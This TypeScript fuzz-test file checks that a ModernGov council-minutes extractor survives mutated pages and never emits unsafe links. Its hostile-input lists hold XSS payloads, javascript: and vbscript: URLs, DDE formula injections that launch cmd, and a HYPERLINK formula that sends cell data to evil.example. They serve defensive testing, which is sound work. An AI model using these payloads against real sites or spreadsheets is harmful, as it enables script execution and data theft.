/**
 * Fuzzed extraction: every seed page (tests/fixtures/*.html, ../shared/fixtures/{fragments,webservice}
 * when present, and the inline pages below) is parsed once; each case mutates a clone of one seed
 * step by step (dropped, duplicated and moved nodes, cut texts, stripped attributes, huge texts,
 * deep nesting, hostile text and links, the serialized page cut short and re-parsed) and extracts
 * the page after every step.
 *
 * Properties: extraction never throws (nor swallows an internal error), answers within a per-page
 * cap (a hang detector, not a speed target), and gives a record ExtractionSchema accepts or
 * `{ kind: null, reason }` with a reason; the items of meeting, item and decision records have
 * clauses with text and numbers that are null or non-empty, and no link in a record has a scheme
 * other than http(s) or file. A third of the pages are read at an address that is not ModernGov's.
 *
 * `FUZZ_RUNS` sets the number of mutated pages (default 10,000). A failure is reported unshrunk with
 * its seed and path: `FUZZ_SEED` and `FUZZ_PATH` replay it, `FUZZ_SHRINK=1` shrinks it. A page that
 * hangs cannot be interrupted (extraction is synchronous): `FUZZ_TRACE=file` writes each page's
 * seed and mutations to that file before reading it, so the last one written is the culprit.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { decodePage } from '@/lib/encoding/decodePage';
import { parseDocument } from '@/lib/cli/readPage';
import { extractDocument } from '@/lib/moderngov/extractDocument';
import { ExtractionSchema, type Extraction } from '@/lib/moderngov/schema';
import { SHARED_FIXTURE_URLS, statedUrl } from '../../support/fixtureAddresses';
import { hasSharedFixtures, ownFixturesDir, sharedFixturesDir } from '../../support/pages';

/** Mutated pages to try (FUZZ_RUNS): CI tries 10,000; `npm run fuzz` ten times as many. */
const RUNS = Math.max(1, Number(process.env.FUZZ_RUNS ?? '') || 10_000);
/** Mutations per case; the page is read after each, so a case tries CHAIN pages. */
const CHAIN = 4;
const CASES = Math.ceil(RUNS / CHAIN);
const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : undefined;
/** Per page: far above any real page's time, so only a hang (or near-quadratic blow-up) trips it. */
const PAGE_CAP_MS = 2000;

interface Seed {
  name: string;
  text: string;
  xml: boolean;
  url: string;
  doc: Document;
}

// ---------------------------------------------------------------------------------------------
// Seeds

const MEETING_URL = 'https://democracy.example.gov.uk/ieListDocuments.aspx?CId=140&MId=5012&Ver=4';

const INLINE_PAGES: { name: string; url: string; html: string }[] = [
  {
    name: 'inline/cabinet-labelled-clauses',
    url: MEETING_URL,
    html: `<!DOCTYPE html><html><head><title>Agenda and minutes - Cabinet - Example Borough Council</title></head><body>
<div id="modgov"><div class="mgHeader"><h1  class="mgMainTitleTxt" >Agenda and minutes</h1></div>
<div class="mgSubTitle" ><h2 class="mgSubTitleTxt">Cabinet - Monday, 1st March, 2021 10.00 am</h2></div>
<p><span class="mgLabel">Venue: </span>Council Chamber, Town Hall. View directions</p>
<p><span class="mgLabel">Contact: </span>Democratic Services 01234 567890</p>
<ul class="mgActionList"><li><a href="documents/g5012/Printed%20minutes%2001st-Mar-2021.pdf?T=1">Printed minutes <span class="mgFileSize"><img src="mgimages/logo-pdf-1.gif" alt="pdf icon" /> PDF 120 KB</span></a></li></ul>
<div class="mgContent" ><table  class="mgItemTable"  summary="Agenda and minutes"><tr><th>No.</th><th>Item</th></tr>
<tr><td  class="mgItemNumberCell" ><a name="AI7001"></a><p  class="mgAiTitleTxt" >1.</p></td><td ><p  class="mgAiTitleTxt" >Apologies for absence</p><p  class="mgSubItemTitleTxt" >Minutes:</p><div class="mgWordPara"><p class="MsoNormal">Apologies were received from Councillor Brown.</p></div></td></tr>
<tr><td  class="mgItemNumberCell" ><a name="AI7002"></a><p  class="mgAiTitleTxt" >5.</p></td><td ><p  class="mgAiTitleTxt" ><a href="documents/s9001/Budget%20report.pdf" title="Link&#32;to&#32;Budget report">Budget 2021/22 <span class="mgFileSize"><img src="mgimages/logo-pdf-1.gif" alt="pdf icon" /> PDF 62 KB</span></a></p>
<p  class="mgSubItemTitleTxt" >Additional documents:</p><ul class="mgBulletList"><li><a href="documents/s9002/Appendix%20A.pdf">Appendix A <span class="mgFileSize">PDF 1 MB</span></a></li><li>Restricted enclosure&nbsp;</li></ul>
<p  class="mgSubItemTitleTxt" >Minutes:</p><div class="mgWordPara"><div class="WordSection1"><p class="MsoNormal">The Cabinet considered the report of the Chief Executive.</p>
<p class="MsoNormal"><b style="">RESOLVED</b><span style="">:</span></p>
<p class="MsoNormal">(i)<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp; </span>That the budget be approved;</p>
<p class="MsoNormal">(ii) That the following be noted:</p><p class="MsoListParagraphCxSpFirst">&middot; the reserves;</p><p class="MsoListParagraphCxSpLast">&middot; the risks.</p>
<p class="MsoNormal">(iii) That officers report back &nbsp;...&nbsp; <a href="mgAi.aspx?ID=7002#mgMinutes">view the full minutes text for item 5.</a></p></div></div></td></tr>
<tr><td  class="mgItemNumberCell" ><a name="AI7003"></a><p  class="mgAiTitleTxt" >6.</p></td><td ><p  class="mgAiTitleTxt" >Declarations of interest</p><p  class="mgSubItemTitleTxt" >Minutes:</p><div class="mgWordPara"><p class="MsoNormal">There were none.</p></div></td></tr>
</table></div></div></body></html>`,
  },
  {
    name: 'inline/decisions-and-minutes-bullets',
    url: 'https://mycouncil.example.gov.uk/ieListDocuments.aspx?CId=120&MId=7970&Ver=4',
    html: `<!DOCTYPE html><html><head><title>Agenda, decisions and minutes</title><meta property="og:site_name" content="Example County Council"></head><body>
<div id="modgov"><h1  class="mgMainTitleTxt" >Agenda, decisions and minutes</h1><h2 class="mgSubTitleTxt">Cabinet Member for Communities - Tuesday, 23rd March, 2021 2.00 pm - CANCELLED</h2>
<table  class="mgItemTable" ><tr><td  class="mgItemNumberCell" ><p  class="mgAiTitleTxt" >78/21</p></td><td ><p  class="mgAiTitleTxt" >Mobile library review</p>
<p>Purpose:</p><p>To review the mobile library service. &lt;/AI3&gt; &lt;AI4&gt;</p>
<p  class="mgSubItemTitleTxt" >Decision:</p><div class="mgWordPara"><ol><li>That the new timetable be approved.</li><li>That authority be delegated to the Director.</li></ol><p>Reasons for Decisions:</p><p>To save money.</p></div>
<p  class="mgSubItemTitleTxt" >Minutes:</p><div class="mgWordPara"><p class="MsoNormal">The following points were raised:-</p><ul><li>cost of fuel</li><li>rural routes</li></ul>
<p class="MsoNormal">AGREED &ndash; that:</p><ul><li>the new timetable be approved;</li><li>authority be delegated to the Director.</li></ul><p>(For 5, Against 2)</p></div>
<div class="mgActionList"><a href="ieDecisionDetails.aspx?AIId=41234">View the decision for item 78/21</a></div></td></tr>
<tr><td  class="mgItemNumberCell" ><p  class="mgAiTitleTxt" >79/21</p></td><td ><p  class="mgAiTitleTxt" >Exclusion of the Press and Public</p><p  class="mgSubItemTitleTxt" >Minutes:</p><p>RESOLVED: That the public be excluded.</p></td></tr>
</table></div></body></html>`,
  },
  {
    name: 'inline/table-layout-labels',
    url: 'https://democracy.example.gov.uk/modernGov/(S(abc123))/ieListDocuments.aspx?CId=7&MID=88&Ver=4',
    html: `<html><body><div id="modgov"><h1  class="mgMainTitleTxt" >Agenda and minutes</h1><h2 class="mgSubTitleTxt">Planning Committee - Wednesday, 9th June, 2021 6.30 pm</h2>
<table  class="mgItemTable" ><tr><td  class="mgItemNumberCell" ><p  class="mgAiTitleTxt" >3.</p></td><td ><p  class="mgAiTitleTxt" >Minutes</p></td></tr>
<tr><td  class="mgItemNumberCell" ><p  class="mgAiTitleTxt" >3a</p></td><td ><p  class="mgAiTitleTxt" >Minutes of the last meeting</p><p  class="mgSubItemTitleTxt" >Minutes:</p>
<div class="mgWordPara"><p class="MsoNormal"><b>RESOLVED</b>:</p><table><tr><td>(a)</td><td>That the minutes be approved.</td></tr><tr><td>(b)</td><td>That the Chair sign them.</td></tr></table></div></td></tr>
<tr><td  class="mgItemNumberCell" ><a name="AI88109"></a><p  class="mgAiTitleTxt" ></p></td><td ><p  class="mgAiTitleTxt" >Any other business</p><p  class="mgSubItemTitleTxt" >Minutes:</p><p>The Panel resolved that no further action be taken.</p></td></tr>
</table></div></body></html>`,
  },
];

/** A plausible address for a file nobody has given one for, from what its name says it is. */
function guessedUrl(name: string): string {
  const host = 'https://democracy.council.example';
  if (name.startsWith('webservice/')) {
    if (/wsdl/i.test(name)) return `${host}/mgWebService.asmx?WSDL`;
    if (/getmeetings/i.test(name)) return `${host}/mgWebService.asmx/GetMeetings?lCommitteeId=1`;
    if (/getmeeting/i.test(name)) return `${host}/mgWebService.asmx/GetMeeting?lMeetingId=1`;
    if (/getcommittees/i.test(name)) return `${host}/mgWebService.asmx/GetCommittees`;
    if (/getattachment/i.test(name)) return `${host}/mgWebService.asmx/GetAttachment?lAttachmentId=1`;
    return `${host}/mgWebService.asmx`;
  }
  if (/decisions?-list|decisions-list|officer-decisions/i.test(name)) return `${host}/mgListOfficerDecisions.aspx`;
  if (/decision/i.test(name)) return `${host}/ieDecisionDetails.aspx?ID=1`;
  if (/attendance/i.test(name)) return `${host}/mgMeetingAttendance.aspx?ID=1`;
  if (/issue/i.test(name)) return `${host}/mgIssueHistoryHome.aspx?IId=1`;
  if (/item/i.test(name)) return `${host}/mgAi.aspx?ID=1`;
  if (/meetings|calendar/i.test(name)) return `${host}/ieListMeetings.aspx?CId=1`;
  return `${host}/ieListDocuments.aspx?CId=1&MId=1&Ver=4`;
}

function fileSeed(file: string, name: string, given?: string): Seed {
  const text = decodePage(readFileSync(file));
  return {
    name,
    text,
    xml: file.endsWith('.xml'),
    url: given ?? statedUrl(text) ?? guessedUrl(name),
    doc: parseDocument(text),
  };
}

function loadSeeds(): Seed[] {
  const seeds: Seed[] = [];
  if (existsSync(ownFixturesDir)) {
    for (const file of readdirSync(ownFixturesDir).filter((f) => f.endsWith('.html')).sort()) {
      seeds.push(fileSeed(path.join(ownFixturesDir, file), `fixtures/${file}`));
    }
  }
  if (hasSharedFixtures) {
    for (const dir of ['fragments', 'webservice']) {
      const full = path.join(sharedFixturesDir, dir);
      if (!existsSync(full)) continue;
      for (const file of readdirSync(full).sort()) {
        const name = `${dir}/${file}`;
        seeds.push(fileSeed(path.join(full, file), name, SHARED_FIXTURE_URLS[name]));
      }
    }
  }
  for (const page of INLINE_PAGES) {
    seeds.push({ name: page.name, text: page.html, xml: false, url: page.url, doc: parseDocument(page.html) });
  }
  return seeds;
}

const NON_MODERNGOV_URLS = [
  'https://example.org/page',
  'https://www.example.gov.uk/news/2021/03/cabinet-agrees-budget',
  'file:///home/user/Downloads/Saved%20page.html',
];

// ---------------------------------------------------------------------------------------------
// Mutations

const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(document.cookie)">',
  'javascript:alert(1)',
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '</AI3><AI4>RESOLVED: (i)',
  '\u202Egnp.exe\u0000\uFFFE\uD800',
  '{"kind":"meeting"}',
  '__proto__',
];

const HOSTILE_HREFS = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)//ieListDocuments.aspx?MId=1',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '=HYPERLINK("http://evil.example","x")',
  'http://[::1',
  '//evil.example/ieListDocuments.aspx?CId=1&MId=1',
  'mgAi.aspx?ID=javascript:alert(1)',
  'ieListDocuments.aspx?MId=%E0%A4%A&CId=<script>',
  '',
];

const ANCHOR_TEXTS = [
  'view the full minutes text for item 5.',
  'item 5',
  'Printed minutes',
  '22/05/2015 - Cabinet',
  'Decision details',
  '<img src=x onerror=alert(1)>',
  '',
];

/** Units repeated into huge texts: whitespace (Word pads pages with it), words and marks the
 * parser's patterns look for, and arbitrary ones. */
const SPACE_UNITS = [' ', '\u00a0', '\u00a0 \n\t', '\n', '&nbsp;'];
const HUGE_UNITS = [
  'a', '0', '1.5', 'RESOLVED: ', '(i) ', '1. ', 'points raised ', 'following points noted ', '... ', '…', '-', ' - ', '<AI1>',
  'view the full minutes text for ', 'Monday 1st March 2021 ', '(Item ', '22/05/2015 ', 'Minutes: ', '• ', '12 KB ',
];

type Mutation =
  | { op: 'drop'; target: number }
  | { op: 'duplicate'; target: number; times: number }
  | { op: 'move'; target: number; dest: number; at: number }
  | { op: 'reorder'; target: number; shift: number; reverse: boolean }
  | { op: 'truncateText'; target: number; from: number; to: number }
  | { op: 'stripAttributes'; target: number; classOnly: boolean }
  | { op: 'hugeText'; target: number; unit: string; length: number; place: 'child' | 'before' | 'after'; at: number }
  | { op: 'deepNest'; target: number; depth: number; tags: 'div' | 'span' | 'mixed' }
  | { op: 'hostileText'; target: number; text: string; at: number }
  | { op: 'hostileLink'; target: number; href: string; text: string; setOnExisting: boolean }
  | { op: 'truncateHtml'; at: number };

const fraction = fc.integer({ min: 0, max: 10_000 }).map((n) => n / 10_000);
const index = fc.nat({ max: 100_000 });

const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ op: fc.constant('drop' as const), target: index }) },
  { weight: 3, arbitrary: fc.record({ op: fc.constant('duplicate' as const), target: index, times: fc.integer({ min: 1, max: 3 }) }) },
  { weight: 3, arbitrary: fc.record({ op: fc.constant('move' as const), target: index, dest: index, at: index }) },
  { weight: 2, arbitrary: fc.record({ op: fc.constant('reorder' as const), target: index, shift: index, reverse: fc.boolean() }) },
  { weight: 4, arbitrary: fc.record({ op: fc.constant('truncateText' as const), target: index, from: fraction, to: fraction }) },
  { weight: 3, arbitrary: fc.record({ op: fc.constant('stripAttributes' as const), target: index, classOnly: fc.boolean() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant('hugeText' as const),
      target: index,
      unit: fc.oneof(
        { weight: 2, arbitrary: fc.constantFrom(...SPACE_UNITS) },
        { weight: 3, arbitrary: fc.constantFrom(...HUGE_UNITS) },
        { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 12 }) },
        { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 4, unit: 'binary' }) },
      ),
      length: fc.integer({ min: 100_000, max: 300_000 }),
      place: fc.constantFrom('child' as const, 'before' as const, 'after' as const),
      at: index,
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant('deepNest' as const),
      target: index,
      depth: fc.integer({ min: 200, max: 400 }),
      tags: fc.constantFrom('div' as const, 'span' as const, 'mixed' as const),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant('hostileText' as const),
      target: index,
      text: fc.oneof(fc.constantFrom(...HOSTILE_TEXTS), fc.string({ maxLength: 40 })),
      at: index,
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant('hostileLink' as const),
      target: index,
      href: fc.oneof(fc.constantFrom(...HOSTILE_HREFS), fc.webUrl(), fc.string({ maxLength: 30 })),
      text: fc.constantFrom(...ANCHOR_TEXTS),
      setOnExisting: fc.boolean(),
    }),
  },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('truncateHtml' as const), at: fraction }) },
);

function pick<T>(list: readonly T[], i: number): T | undefined {
  return list.length ? list[i % list.length] : undefined;
}

function elementsOf(doc: Document): Element[] {
  return Array.from(doc.getElementsByTagName('*'));
}

/** Elements that can gain siblings or be wrapped (not the root). */
function innerElementsOf(doc: Document): Element[] {
  return elementsOf(doc).filter((el) => el.parentNode !== null && el.parentNode.nodeType === 1);
}

function textNodesOf(doc: Document): Text[] {
  const out: Text[] = [];
  const stack: Node[] = [doc];
  while (stack.length) {
    const node = stack.pop() as Node;
    if (node.nodeType === 3) out.push(node as Text);
    for (let child = node.lastChild; child; child = child.previousSibling) stack.push(child);
  }
  return out;
}

function insertAt(parent: Node, node: Node, at: number): void {
  const ref = parent.childNodes[at % (parent.childNodes.length + 1)] ?? null;
  parent.insertBefore(node, ref);
}

function serialize(doc: Document, xml: boolean): string {
  const root = doc.documentElement;
  if (!root) return '';
  return xml ? `<?xml version="1.0" encoding="utf-8"?>\n${root.outerHTML}` : `<!DOCTYPE html>\n${root.outerHTML}`;
}

/** Applies one mutation in place; returns the (possibly re-parsed) document. */
function mutate(doc: Document, m: Mutation, xml: boolean): Document {
  switch (m.op) {
    case 'drop': {
      const el = pick(elementsOf(doc), m.target);
      el?.remove();
      return doc;
    }
    case 'duplicate': {
      const el = pick(innerElementsOf(doc), m.target);
      for (let i = 0; el && i < m.times; i++) el.after(el.cloneNode(true));
      return doc;
    }
    case 'move': {
      const inner = innerElementsOf(doc);
      const el = pick(inner, m.target);
      const dest = pick(elementsOf(doc), m.dest);
      if (el && dest && !el.contains(dest)) insertAt(dest, el, m.at);
      return doc;
    }
    case 'reorder': {
      const el = pick(elementsOf(doc), m.target);
      if (!el || el.childNodes.length < 2) return doc;
      const children = Array.from(el.childNodes);
      const k = m.shift % children.length;
      const order = [...children.slice(k), ...children.slice(0, k)];
      if (m.reverse) order.reverse();
      for (const child of order) el.appendChild(child);
      return doc;
    }
    case 'truncateText': {
      const text = pick(textNodesOf(doc), m.target);
      if (!text) return doc;
      const value = text.nodeValue ?? '';
      const [a, b] = [Math.floor(m.from * value.length), Math.floor(m.to * value.length)].sort((x, y) => x - y);
      text.nodeValue = value.slice(a, b);
      return doc;
    }
    case 'stripAttributes': {
      const el = pick(elementsOf(doc), m.target);
      if (!el) return doc;
      if (m.classOnly) el.removeAttribute('class');
      else for (const name of el.getAttributeNames()) el.removeAttribute(name);
      return doc;
    }
    case 'hugeText': {
      const el = pick(m.place === 'child' ? elementsOf(doc) : innerElementsOf(doc), m.target);
      if (!el) return doc;
      const text = doc.createTextNode(m.unit.repeat(Math.ceil(m.length / m.unit.length)).slice(0, m.length));
      if (m.place === 'before') el.before(text);
      else if (m.place === 'after') el.after(text);
      else insertAt(el, text, m.at);
      return doc;
    }
    case 'deepNest': {
      const el = pick(innerElementsOf(doc), m.target);
      if (!el) return doc;
      const outer = doc.createElement(m.tags === 'span' ? 'span' : 'div');
      let inner = outer;
      for (let i = 1; i < m.depth; i++) {
        const next = doc.createElement(m.tags === 'mixed' ? (i % 2 ? 'span' : 'div') : outer.tagName.toLowerCase());
        inner.appendChild(next);
        inner = next;
      }
      el.replaceWith(outer);
      inner.appendChild(el);
      return doc;
    }
    case 'hostileText': {
      const el = pick(elementsOf(doc), m.target);
      if (el) insertAt(el, doc.createTextNode(m.text), m.at);
      return doc;
    }
    case 'hostileLink': {
      const anchors = Array.from(doc.getElementsByTagName('a'));
      if (m.setOnExisting && anchors.length) {
        pick(anchors, m.target)?.setAttribute('href', m.href);
        return doc;
      }
      const el = pick(elementsOf(doc), m.target);
      if (!el) return doc;
      const a = doc.createElement('a');
      a.setAttribute('href', m.href);
      a.textContent = m.text;
      el.appendChild(a);
      return doc;
    }
    case 'truncateHtml': {
      const html = serialize(doc, xml);
      return parseDocument(html.slice(0, Math.floor(m.at * html.length)));
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Properties

const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'file:']);

/** Every `url` / `…Url` string in a record: an address with a harmless scheme. */
function badUrls(value: unknown, key = ''): string[] {
  if (typeof value === 'string') {
    if (!/^url$|Url$/.test(key)) return [];
    try {
      return SAFE_PROTOCOLS.has(new URL(value).protocol) ? [] : [`${key}=${value}`];
    } catch {
      return [`${key}=${value}`];
    }
  }
  if (Array.isArray(value)) return value.flatMap((v) => badUrls(v, key));
  if (value && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => badUrls(v, k));
  return [];
}

/** What is wrong with an extraction, or [] when it is sound. */
function problems(result: Extraction): string[] {
  const out: string[] = [];
  const parsed = ExtractionSchema.safeParse(result);
  if (!parsed.success) out.push(`schema: ${parsed.error.message.slice(0, 500)}`);
  if (result.kind === null) {
    if (typeof result.reason !== 'string' || result.reason.trim() === '') out.push('not recognised without a reason');
    // extractPage turns an internal throw into this reason: a throw is a bug all the same.
    else if (/could not be read:/.test(result.reason)) out.push(`internal error: ${result.reason}`);
    return out;
  }
  out.push(...badUrls(result).map((u) => `unsafe link: ${u}`));
  // Meetings (and the single item of item and decision pages): numbers and clauses have text.
  const items = result.kind === 'meeting' ? result.items : result.kind === 'item' || result.kind === 'decision' ? [result.item] : [];
  items.forEach((item, i) => {
    if (item.number !== null && item.number.trim() === '') out.push(`item ${i}: empty number`);
    item.clauses.forEach((clause, j) => {
      if (typeof clause.text !== 'string' || clause.text.trim() === '') out.push(`item ${i} clause ${j}: empty text (label ${clause.label})`);
    });
  });
  return out;
}

describe('fuzzed extraction (lib/moderngov)', () => {
  const seeds = loadSeeds();
  const stats = { pages: 0, recognised: 0, byKind: {} as Record<string, number>, maxMs: 0, maxPage: '', extractMs: 0, wallMs: 0 };

  afterAll(() => {
    const kinds = Object.entries(stats.byKind)
      .sort(([a], [b]) => a.localeCompare(b))
      .map(([k, n]) => `${k} ${n}`)
      .join(', ');
    console.log(
      `fuzz: ${stats.pages} mutated pages tried from ${seeds.length} seeds; ${stats.recognised} recognised (${kinds}); ` +
        `max ${stats.maxMs.toFixed(1)} ms per page (${stats.maxPage}), mean ${(stats.extractMs / Math.max(1, stats.pages)).toFixed(1)} ms; ` +
        `wall ${(stats.wallMs / 1000).toFixed(1)} s, of which extraction ${(stats.extractMs / 1000).toFixed(1)} s`,
    );
  });

  it('has seeds: fixtures, shared fixtures when present, inline pages', () => {
    expect(seeds.length).toBeGreaterThanOrEqual(INLINE_PAGES.length);
    for (const seed of seeds) {
      // Unmutated, every seed reads soundly too.
      expect(problems(extractDocument(seed.doc.cloneNode(true) as Document, seed.url)), seed.name).toEqual([]);
    }
  });

  it(
    `survives ${CASES * CHAIN} mutated pages`,
    async () => {
      const started = performance.now();
      try {
        await fc.assert(
          fc.asyncProperty(
            fc.nat({ max: seeds.length - 1 }),
            fc.nat({ max: 2 }),
            fc.nat({ max: NON_MODERNGOV_URLS.length - 1 }),
            fc.array(mutationArb, { minLength: CHAIN, maxLength: CHAIN }),
            async (seedIndex, urlMode, otherUrl, mutations) => {
              // Back to the event loop between cases: happy-dom holds nodes through WeakRefs, which
              // V8 keeps alive until the current job ends, so one long synchronous run would keep
              // every page it made (gigabytes by a few thousand pages).
              await new Promise((resolve) => setImmediate(resolve));
              const seed = seeds[seedIndex] as Seed;
              // A third of runs: the same content at an address that is not ModernGov's.
              const url = urlMode === 2 ? (NON_MODERNGOV_URLS[otherUrl] as string) : seed.url;
              // One clone, mutated step by step: the page is read after each step, so a case tries
              // pages with 1, 2, … CHAIN mutations (extraction never changes the page it reads).
              let doc = seed.doc.cloneNode(true) as Document;
              mutations.forEach((m, step) => {
                try {
                  doc = mutate(doc, m, seed.xml);
                } catch (error) {
                  throw new Error(`the fuzzer's own ${m.op} mutation failed (not an extraction bug): ${String(error)}`);
                }
                if (process.env.FUZZ_TRACE) writeFileSync(process.env.FUZZ_TRACE, JSON.stringify({ seed: seed.name, url, mutations: mutations.slice(0, step + 1) }));
                const t0 = performance.now();
                const result = extractDocument(doc, url);
                const ms = performance.now() - t0;
                stats.pages++;
                stats.extractMs += ms;
                const ops = mutations.slice(0, step + 1).map((x) => x.op).join('+');
                if (ms > stats.maxMs) {
                  stats.maxMs = ms;
                  stats.maxPage = `${seed.name} ${ops}`;
                }
                if (result.kind !== null) {
                  stats.recognised++;
                  stats.byKind[result.kind] = (stats.byKind[result.kind] ?? 0) + 1;
                }
                const found = problems(result);
                if (ms >= PAGE_CAP_MS) found.push(`took ${ms.toFixed(0)} ms (cap ${PAGE_CAP_MS} ms)`);
                if (found.length) throw new Error(`${seed.name} at ${url}, after ${ops}: ${found.join('; ')}`);
              });
            },
          ),
          // A failure is reported as found, unshrunk (shrinking a slow page can take hours), with the
          // seed and path to replay it: FUZZ_SEED=… FUZZ_PATH=… FUZZ_SHRINK=1 shrinks it.
          { numRuns: CASES, seed: SEED, path: process.env.FUZZ_PATH, endOnFailure: !process.env.FUZZ_SHRINK },
        );
      } finally {
        stats.wallMs = performance.now() - started;
      }
    },
    Math.max(300_000, CASES * CHAIN * 100),
  );
});
